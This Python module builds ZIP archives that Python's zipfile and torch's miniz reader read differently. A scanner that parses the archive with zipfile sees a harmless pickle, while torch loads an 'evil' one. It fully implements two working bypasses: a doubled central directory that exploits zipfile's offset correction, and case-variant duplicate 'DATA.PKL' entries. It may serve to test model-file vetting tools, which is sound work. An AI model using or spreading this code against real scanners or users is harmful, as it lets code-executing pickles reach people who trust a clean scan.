"""Byte records that Python's zipfile and torch's zip reader (miniz) read differently: a vetting that parses the record
with zipfile sees a harmless pickle, torch loads another.

- ``concat``: two central directories; zipfile applies its offset for data prepended to an archive and reads the
  one before the end record, miniz reads the one at the stated offset.
- ``case``: a harmless ``data.pkl`` and several ``DATA.PKL``: zipfile matches names exactly, miniz without case.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib


def entries_of(data):
    z = zipfile.ZipFile(io.BytesIO(data))
    return [(i.filename, z.read(i)) for i in z.infolist()]


def local(name, data):
    n = name.encode()
    crc = zlib.crc32(data)
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, len(data), len(data), len(n), 0) + n + data


def central(name, data, offset, comment=b""):
    n = name.encode()
    crc = zlib.crc32(data)
    return (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            0,
            0,
            0,
            crc,
            len(data),
            len(data),
            len(n),
            0,
            len(comment),
            0,
            0,
            0,
            offset,
        )
        + n
        + comment
    )


def build(benign_entries, evil_entries):
    out = b""
    evil_cd_parts = []
    for name, d in evil_entries:
        evil_cd_parts.append((name, d, len(out)))
        out += local(name, d)
    X = len(out)
    evil_cd = b"".join(central(n, d, o) for n, d, o in evil_cd_parts)
    benign_parts = []
    body_after = b""
    # benign local files after the evil CD; offsets need concat correction, computed once sizes are known
    pos = X + len(evil_cd)
    for name, d in benign_entries:
        benign_parts.append((name, d, pos + len(body_after)))
        body_after += local(name, d)
    Y = X + len(evil_cd) + len(body_after)
    concat = Y - X
    benign_cd = b"".join(central(n, d, o - concat) for n, d, o in benign_parts)
    # equalize sizes: pad the shorter CD's last entry with a file comment
    diff = len(benign_cd) - len(evil_cd)
    if diff > 0:
        n, d, o = evil_cd_parts[-1]
        evil_cd = b"".join(central(n2, d2, o2) for n2, d2, o2 in evil_cd_parts[:-1]) + central(n, d, o, b"x" * diff)
    elif diff < 0:
        n, d, o = benign_parts[-1]
        benign_cd = b"".join(central(n2, d2, o2 - concat) for n2, d2, o2 in benign_parts[:-1]) + central(
            n, d, o - concat, b"x" * -diff
        )
    # evil CD size changed -> recompute layout once more (positions after X shift)
    if diff > 0:
        pos = X + len(evil_cd)
        body_after = b""
        benign_parts = []
        for name, d in benign_entries:
            benign_parts.append((name, d, pos + len(body_after)))
            body_after += local(name, d)
        Y = X + len(evil_cd) + len(body_after)
        concat = Y - X
        benign_cd = b"".join(central(n, d, o - concat) for n, d, o in benign_parts)
    assert len(benign_cd) == len(evil_cd), (len(benign_cd), len(evil_cd))
    blob = out + evil_cd + body_after + benign_cd
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(evil_entries), len(evil_entries), len(evil_cd), X, 0)
    assert len(benign_entries) == len(evil_entries)
    return blob + eocd


def concat(record: bytes, evil_pickle: bytes) -> bytes:
    benign = entries_of(record)
    evil = [(n, evil_pickle if n.endswith("/data.pkl") else d) for n, d in benign]
    return build(benign, evil)


def case(record: bytes, evil_pickle: bytes) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(record))
    entries = [(i.filename, src.read(i)) for i in src.infolist()]
    prefix = entries[0][0].split("/")[0]
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        # "Duplicate name": the point
        warnings.simplefilter("ignore", UserWarning)
        for name, data in [(f"{prefix}/DATA.PKL", evil_pickle)] * 5 + entries:
            z.writestr(name, data)
    return out.getvalue()
